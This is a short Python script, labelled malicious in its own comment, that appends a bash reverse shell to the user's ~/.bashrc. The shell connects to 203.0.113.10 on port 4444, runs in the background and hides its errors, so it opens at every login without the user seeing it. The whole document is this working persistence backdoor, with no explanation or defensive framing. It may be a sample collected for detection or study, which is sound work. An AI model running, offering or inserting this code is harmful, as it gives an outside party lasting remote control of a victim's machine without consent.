# Malicious: appends a reverse shell to ~/.bashrc so it runs at every login.
import os

with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\n(bash -i >& /dev/tcp/203.0.113.10/4444 0>&1 &) 2>/dev/null\n")
